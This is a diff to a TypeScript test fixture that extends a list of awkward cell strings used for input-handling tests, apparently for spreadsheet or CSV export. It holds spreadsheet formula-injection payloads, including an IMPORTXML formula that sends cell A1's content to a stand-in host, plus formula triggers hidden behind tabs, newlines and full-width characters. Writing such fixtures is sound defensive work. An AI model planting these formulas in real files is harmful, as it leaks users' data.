@@ -5,7 +5,7 @@ const published = JSON.parse(
   readFileSync("node_modules/big-list-of-naughty-strings/blns.json", "utf8"),
 ) as string[];
 
-const own = [
+export const own: readonly string[] = [
   '=HYPERLINK("https://contoh.example","klik")',
   '=IMPORTXML(CONCAT("https://contoh.example/",A1),"//a")',
   "+62 812 000",
@@ -53,6 +53,23 @@ const own = [
   "CON",
   "a/b:c*d?e",
   "x".repeat(50_000),
+  "\t=2+2",
+  "\n\n=2+2",
+  "  dua  spasi  ",
+  "\u00a0tepi\u00a0",
+  "\u3000lebar",
+  "baris\nlain\r\nlagi\rakhir",
+  "－1",
+  "＠SUM(1)",
+  "caf\u00e9",
+  "cafe\u0301",
+  "\u0130stanbul \u0131I",
+  "\u05d0\u05d1\u05d2 abc",
+  "a\u2028b\u2029c",
+  "a\u001fb",
+  "a\u007f\u0085b",
+  "👩\u200d👩\u200d👧",
+  "isi;titik koma|garis",
 ];
 
 /** Blank texts are cells without content, and not of interest here. */
